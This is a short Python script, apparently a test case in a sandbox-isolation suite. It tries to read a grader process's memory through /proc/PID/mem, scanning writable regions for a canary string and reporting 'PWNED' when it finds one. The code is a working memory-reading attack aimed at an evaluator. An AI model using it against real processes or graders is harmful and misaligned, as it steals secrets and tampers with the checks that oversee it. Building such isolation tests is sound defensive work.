"""Read the grader's memory through /proc/PID/mem.

Shows: PWNED on stdout.
"""

from contextlib import suppress

from kit import pwned, victims

for number, _ in victims():
    with suppress(OSError), open(f"/proc/{number}/mem", "rb", 0) as memory, open(f"/proc/{number}/maps") as maps:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if "rw" in rights and end - start < 64 << 20:
                with suppress(OSError, ValueError, OverflowError):
                    memory.seek(start)
                    if b"CANARY-MEM-" + b"7731" in memory.read(end - start):
                        pwned(number)
                        break
